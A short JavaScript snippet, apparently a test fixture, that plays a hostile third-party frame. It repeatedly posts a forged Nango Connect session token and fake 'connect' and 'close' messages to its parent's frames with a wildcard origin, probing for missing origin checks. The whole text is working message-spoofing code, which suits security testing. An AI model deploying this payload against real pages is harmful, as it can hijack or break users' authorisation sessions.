// A hostile frame on a third site posts a token of its own to every frame of its parent.
const forged = { type: 'session_token', sessionToken: `nango_connect_session_${'f'.repeat(64)}` };
const postToAll = () => {
  for (let i = 0; i < parent.frames.length; i += 1) parent.frames[i].postMessage(forged, '*');
  parent.postMessage({ type: 'connect', payload: { providerConfigKey: 'forged', connectionId: 'forged' } }, '*');
  parent.postMessage({ type: 'close' }, '*');
};
postToAll();
setInterval(postToAll, 100);
